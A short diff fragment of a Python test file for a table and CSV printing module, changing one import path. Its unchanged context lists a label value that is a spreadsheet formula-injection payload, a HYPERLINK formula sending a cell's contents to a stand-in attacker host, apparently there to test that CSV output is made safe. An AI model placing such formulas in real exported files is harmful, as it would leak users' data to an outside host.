@@ -10,7 +10,7 @@ import csv
 import io
 import json
 
-from motley.results.print_tables import PrintTable, as_csv
+from motley_report.print_tables import PrintTable, as_csv
 
 LABELS = [
     '=HYPERLINK("http://attacker.example/?"&B2,"open")',
